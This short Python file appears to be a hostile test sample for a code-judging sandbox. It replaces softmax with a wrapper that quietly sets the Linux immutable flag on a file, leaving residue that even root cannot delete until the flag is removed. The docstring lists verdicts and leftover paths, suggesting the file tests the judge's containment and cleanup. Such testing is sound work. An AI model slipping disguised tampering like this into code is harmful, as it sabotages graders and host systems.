"""The immutable flag keeps even root from removing a file, until root takes the flag away. It needs a capability.

Where nothing but the process is confined and that is root's, it stays.

base: right
verdict: blocked|error|passed
leaves at process: judge-* confined-* /tmp/hostile-*/tmp-*
row: own: what is hard to sweep
"""
import array as _array
import fcntl as _fcntl
import functools as _functools

_softmax = softmax
_FS_IOC_SETFLAGS, _IMMUTABLE = 0x40086602, 0x10


@_functools.cache
def _attack():
    with open("immutable", "w") as stream:
        _fcntl.ioctl(stream.fileno(), _FS_IOC_SETFLAGS, _array.array("l", [_IMMUTABLE]))


def softmax(x):
    _attack()
    return _softmax(x)
